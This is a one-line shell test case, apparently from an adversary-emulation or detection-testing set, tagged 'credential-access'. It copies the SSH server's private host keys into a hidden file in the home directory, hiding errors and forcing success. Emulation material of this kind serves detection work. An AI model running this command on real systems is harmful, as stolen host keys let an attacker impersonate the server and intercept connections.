# tactic: credential-access
# copy the SSH server's private host keys (refused for an ordinary user: the attempt is the behaviour)
for k in /etc/ssh/ssh_host_ecdsa_key /etc/ssh/ssh_host_rsa_key; do dd if=$k of=$HOME/.hk bs=1k count=4 2>/dev/null; done; true
